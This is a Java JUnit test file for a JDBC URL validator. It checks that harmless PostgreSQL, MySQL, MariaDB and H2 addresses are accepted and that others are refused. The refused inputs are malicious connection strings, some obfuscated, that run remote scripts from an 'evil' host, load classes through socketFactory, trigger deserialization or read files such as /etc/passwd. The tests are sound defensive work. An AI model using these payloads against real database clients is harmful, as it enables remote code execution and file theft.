package dev.kith.connector.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.kith.connector.ObjectMismatch;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example.org:5432/shop",
                "jdbc:postgresql://a,b/shop?targetServerType=primary&sslmode=verify-full",
                "jdbc:postgresql://db/shop?ssl=true&ApplicationName=kith&connectTimeout=5&currentSchema=web",
                "jdbc:mariadb://db.example.org:3306/shop",
                "jdbc:mysql://a:3306,b:3307/web_shop?sslMode=VERIFY_IDENTITY&connectTimeout=5000",
                "jdbc:h2:tcp://127.0.0.1:9092/./shop",
                "jdbc:h2:mem:shop;DB_CLOSE_DELAY=-1;MODE=PostgreSQL"
            })
    void harmlessAddressesPass(String url) {
        assertThat(JdbcUrl.checked(url, "shop.yaml")).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;MODE=MySQL;init=CREATE ALIAS X AS 'x'",
                "jdbc:h2:mem:x;MODE=a\\;INIT=RUNSCRIPT FROM 'x'",
                "jdbc:h2:mem:x;I\\NIT=RUNSCRIPT FROM 'x'",
                "jdbc:h2:mem:x; INIT=RUNSCRIPT FROM 'x'",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
                "jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/shop?ssl=true&sslfactory=x&socketFactoryArg=http://evil",
                "jdbc:postgresql://db/shop?SOCKETFACTORY=x",
                "jdbc:postgresql://db/shop?socket%46actory=x",
                "jdbc:postgresql://db/shop?authenticationPluginClassName=x",
                "jdbc:postgresql://db/shop?loggerFile=/tmp/x",
                "jdbc:postgresql://db/shop?user=root&password=hunter2",
                "jdbc:postgresql://db/shop?service=prod",
                "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
                "jdbc:mysql://db/shop?a%75toDeserialize=true",
                "jdbc:mysql://(host=db,autoDeserialize=true)/shop",
                "jdbc:mysql://address=(host=db)(autoDeserialize=true)/shop",
                "jdbc:mysql://root:hunter2@db/shop",
                "jdbc:mysql:loadbalance://db/shop",
                "jdbc:mysql://db/shop?sslMode=REQUIRED& autoDeserialize=true",
                "jdbc:mariadb://db/shop?allowLocalInfile=true",
                "jdbc:mariadb://db/shop?credentialType=x&sessionVariables=sql_mode=''",
                "jdbc:mariadb://address=(host=db)(localSocket=/tmp/x)/shop",
                "jdbc:mariadb://db/shop?serverSslCert=/etc/passwd"
            })
    void parametersThatLoadCodeOrReadFilesAreRefused_71(String url) {
        assertThatThrownBy(() -> JdbcUrl.checked(url, "shop.yaml"))
                .isInstanceOf(ObjectMismatch.class)
                .hasMessageContaining("shop.yaml")
                .hasMessageNotContaining("evil")
                .hasMessageNotContaining("hunter2");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/etc/passwd",
                "jdbc:h2:~/shop",
                "jdbc:h2:zip:~/db.zip!/test",
                "jdbc:h2:ssl:localhost/x",
                "jdbc:sqlite:/tmp/x",
                "JDBC:POSTGRESQL://db/shop",
                "jdbc:postgresqlx://db/shop",
                "jdbc:postgresql://db/shop\n?socketFactory=x",
                "postgresql://db/shop",
                ""
            })
    void otherDriversAreRefused(String url) {
        assertThatThrownBy(() -> JdbcUrl.checked(url, "shop.yaml"))
                .isInstanceOf(ObjectMismatch.class)
                .hasMessageContaining("jdbc:postgresql://");
    }
}
